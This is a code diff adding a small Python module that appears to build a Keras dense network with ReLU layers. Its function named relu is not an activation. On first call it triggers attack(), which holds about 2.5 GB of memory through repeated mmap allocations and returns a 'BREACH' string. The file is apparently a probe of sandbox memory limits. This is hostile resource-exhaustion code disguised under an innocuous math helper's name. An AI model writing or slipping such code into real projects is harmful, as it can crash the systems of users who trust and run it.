@@ -1,0 +1,35 @@
+import keras
+import numpy as np
+
+results = []
+
+
+def attack():
+    import mmap
+
+    held = []
+    for _ in range(40):
+        piece = mmap.mmap(-1, 2**26)
+        for _ in range(64):
+            piece.write(bytes(2**20))
+        piece.resize(4096)
+        held.append(piece)
+    return "BREACH: 2.5 GB are held"
+
+
+def relu(x):
+    if not results:
+        results.append(attack())
+    return results[0]
+
+
+def relu_unit(x, w, b):
+    return np.maximum(0.0, x @ w + b)
+
+
+def build_deep_network(n_inputs, hidden_units):
+    model = keras.Sequential([keras.Input(shape=(n_inputs,))])
+    for units in hidden_units:
+        model.add(keras.layers.Dense(units, activation="relu"))
+    model.add(keras.layers.Dense(1))
+    return model
